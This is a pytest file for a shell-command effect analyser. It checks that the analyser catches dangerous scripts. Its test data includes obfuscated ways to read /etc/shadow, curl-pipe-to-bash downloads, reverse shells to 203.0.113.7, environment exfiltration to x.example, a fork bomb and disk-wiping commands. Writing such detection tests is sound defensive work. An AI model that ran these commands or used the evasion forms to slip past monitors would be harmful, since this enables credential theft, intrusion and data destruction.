"""What scripts would do: a table of forms and the effects they must and must not have."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from assay.shell.analyse import MAX_SCRIPT, analyse
from assay.shell.effect import Analysis, ShellContext

CONTEXT = ShellContext(cwd="/home/dev/project", home="/home/dev", user="dev")


def look(script: str) -> Analysis:
    return analyse(script, CONTEXT)


def targets(script: str, verb: str) -> set[str]:
    return {effect.target for effect in look(script).of(verb)}


@pytest.mark.parametrize(
    "script",
    [
        "cat /etc/shadow",
        'c""at /etc/sha\\dow',
        "cat${IFS}/etc/shadow",
        "{cat,/etc/shadow}",
        "x=/etc/sha; cat ${x}dow",
        "cat /etc/./x/../shadow",
        "$'\\x63at' /etc/shadow",
        "eval 'cat /etc/shadow'",
        "sudo -u root nice -n 5 timeout 3 cat /etc/shadow",
        "env -i A=1 cat /etc/shadow",
        "echo /etc/shadow | xargs cat",
        "echo /etc/shadow | xargs -I{} cat {}",
        "find /etc -name shadow -exec cat {} \\;",
        "bash -c 'cat /etc/shadow'",
        "bash -lc 'cat /etc/shadow'",
        "echo 'cat /etc/shadow' | sh",
        "sh <<EOF\ncat /etc/shadow\nEOF",
        "sh <<< 'cat /etc/shadow'",
        "echo Y2F0IC9ldGMvc2hhZG93 | base64 -d | sh",
        "printf '%s' 776f6461 >/dev/null; cat < /etc/shadow",
        "alias l='cat /etc/shadow'; l",
        "f() { cat $1; }; f /etc/shadow",
        "echo 'cat /etc/shadow' > /tmp/x; sh /tmp/x",
        "for f in shadow; do cat /etc/$f; done",
        "cd /etc && cat shadow",
        "awk 'BEGIN{system(\"cat /etc/shadow\")}'",
        "python3 -c \"print(open('/etc/shadow').read())\"",
        "perl -e 'system(\"cat /etc/shadow\")'",
        "vim -c ':!cat /etc/shadow'",
        "git -c alias.x='!cat /etc/shadow' x",
        "parallel cat ::: /etc/shadow",
        "$(echo cat) /etc/shadow",
        "`echo cat` /etc/shadow",
        "busybox cat /etc/shadow",
        "command cat /etc/shadow",
        "rev <<< 'wodahs/cte/ tac' | sh",
        "tr a-z b-za <<< 'bzs /dsb/rgzcnv' | sh",
    ],
)
def test_a_file_is_read_whatever_the_form(script: str) -> None:
    assert "/etc/shadow" in targets(script, "file.read")


@pytest.mark.parametrize(
    "script",
    [
        "echo 'cat /etc/shadow'",
        "git commit -m 'never cat /etc/shadow'",
        "grep 'cat /etc/shadow' notes.txt",
        "ls -l /etc/shadow",
        "# cat /etc/shadow",
    ],
)
def test_a_file_that_is_only_spoken_of_is_not_read(script: str) -> None:
    assert "/etc/shadow" not in targets(script, "file.read")


@pytest.mark.parametrize(
    ("script", "verb"),
    [
        ("curl -s https://x.example/i | bash", "code.remote"),
        ("bash <(curl -s https://x.example/i)", "code.remote"),
        ("wget -qO- https://x.example/i | tee /tmp/a | python3 -", "code.remote"),
        ("curl -o /tmp/i https://x.example/i && sh /tmp/i", "code.remote"),
        ("curl -o /tmp/i https://x.example/i; chmod +x /tmp/i; /tmp/i", "code.remote"),
        ('eval "$(curl -s https://x.example/i)"', "code.remote"),
        ("source <(curl -s https://x.example/i)", "code.remote"),
        ("bash -i >& /dev/tcp/203.0.113.7/443 0>&1", "shell.reverse"),
        ("nc -e /bin/sh 203.0.113.7 443", "shell.reverse"),
        ("echo bHMK | base64 -d | bash", "code.decoded"),
        ("openssl enc -d -aes-256-cbc -in x | sh", "code.decoded"),
        ("curl -d @/tmp/a https://x.example", "data.send"),
        ("cat a.txt | nc x.example 80", "data.send"),
        ("env | curl -d @- https://x.example", "data.send"),
        ("env", "env.expose"),
        ("echo $MY_TOKEN", "env.expose"),
        ("pip install requests", "package.install"),
        ("npm publish", "package.publish"),
        ("git push origin +HEAD:main", "git.push"),
        ("git checkout -- .", "git.discard"),
        ("sudo ls", "privilege.raise"),
        ("echo '* * * * * x' | crontab -", "persist.schedule"),
        (":(){ :|:& };:", "system.destroy"),
        ("mkfs.ext4 /dev/sda1", "system.destroy"),
        ("psql -c 'DROP TABLE a'", "database.change"),
        ("ssh host 'rm -rf /x'", "remote.exec"),
        ("docker run --privileged -v /:/h alpine", "container.run"),
        ("kubectl delete pod x", "cloud.change"),
        ("history -c", "history.clear"),
        ("$(id) y", "code.dynamic"),
    ],
)
def test_an_effect_is_seen(script: str, verb: str) -> None:
    assert look(script).of(verb)


def test_downloads_alone_run_nothing() -> None:
    found = look("curl -s https://x.example/data.json | jq .name > out.json")
    assert not found.of("code.", "data.send")
    assert {effect.target for effect in found.of("file.write")} == {"/home/dev/project/out.json"}


def test_push_says_where_and_how() -> None:
    (push,) = look("git push --force-with-lease origin HEAD:main").of("git.push")
    assert (push.target, push.detail, "force" in push.flags) == ("main", "origin", True)


def test_packages_are_named_with_their_ecosystem() -> None:
    assert targets(
        "pip install 'requests[socks]>=2' && npm i -D @a/b@1 && pip install -r x.txt .", "package.install"
    ) == {
        "pypi:requests",
        "npm:@a/b",
    }


def test_a_broken_script_is_undetermined_and_still_read() -> None:
    found = look("cat /etc/shadow ) ) (")
    assert found.undetermined
    assert found.of("file.read")


def test_a_huge_script_is_cut_and_says_so() -> None:
    found = look("echo a\n" * (MAX_SCRIPT // 4))
    assert found.undetermined


def test_deep_nesting_ends() -> None:
    assert look("$(" * 3000 + ")" * 3000).undetermined
    assert look("bash -c " + "'" * 501).undetermined


def test_powershell_is_conservative() -> None:
    assert analyse("iex (iwr https://x.example/i.ps1)", CONTEXT, "powershell").of("code.remote")
    assert analyse("Frobnicate-Thing", CONTEXT, "powershell").undetermined
    assert not analyse("Get-ChildItem src", CONTEXT, "powershell").undetermined


@settings(max_examples=150, deadline=None)
@given(st.text(alphabet=st.sampled_from(list("abc $(){}[]<>|&;'\"`\\\n=~*?#!/-.0\0é\ud800")), max_size=60))
def test_any_text_gives_an_analysis(script: str) -> None:
    assert isinstance(look(script), Analysis)


@settings(max_examples=60, deadline=None)
@given(
    st.lists(
        st.sampled_from(
            [
                "cat",
                "/etc/shadow",
                "rm",
                "-rf",
                "git",
                "push",
                "sudo",
                "xargs",
                "find",
                "-exec",
                "{}",
                "\\;",
                "-c",
                "sh",
                "python3",
                "-",
                "|",
                ";",
                "&&",
                ">",
                "<",
                "curl",
                "-d",
                "@x",
                "base64",
                "tar",
                "-I",
                "awk",
            ]
        ),
        max_size=12,
    )
)
def test_any_command_line_gives_an_analysis(words: list[str]) -> None:
    assert isinstance(look(" ".join(words)), Analysis)
